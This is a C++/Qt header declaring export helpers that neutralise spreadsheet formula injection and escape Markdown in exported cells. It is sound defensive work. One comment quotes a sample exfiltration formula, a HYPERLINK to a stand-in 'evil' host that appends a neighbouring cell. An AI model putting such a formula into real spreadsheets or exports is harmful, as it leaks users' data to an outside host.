#pragma once

#include <QList>
#include <QString>
#include <QStringList>

// Every export path (the triage log's CSV, Markdown file and "Copy as
// Markdown", the Bots table's Ctrl+C as TSV and its "Copy as Markdown")
// writes its cells through here, so server text stays text wherever it is
// opened:
//
// - spreadsheets: a cell that starts with =, +, -, @, a tab or a carriage
//   return is prefixed with ' (Excel and LibreOffice then show it as text:
//   =HYPERLINK("https://evil/?"&B2,"x") cannot send neighbouring cells away);
// - Markdown: every character Markdown (GFM) or the HTML it allows would
//   interpret is backslash-escaped and line breaks become <br/>, so a name
//   cannot become a link, an image, a tracking pixel, a mention or a new row.
//
// Values are otherwise exported as received (IDs byte for byte).
namespace ExportFormat {

// The cell with a leading ' when a spreadsheet would read it as a formula.
QString defused(const QString &cell);

// One CSV field (RFC 4180): defused, then quoted when it holds a comma,
// quote, CR or LF.
QString csvField(const QString &cell);
// One TSV field: defused, then tabs and line breaks as spaces.
QString tsvField(const QString &cell);
// One Markdown table cell: escaped, line breaks as <br/>, trimmed.
QString markdownCell(const QString &cell);

// Whole documents; rows.first() is the header.
QString csv(const QList<QStringList> &rows); // CRLF line ends
QString tsv(const QList<QStringList> &rows); // LF line ends
QString markdownTable(const QList<QStringList> &rows); // a GFM table, LF line ends

} // namespace ExportFormat
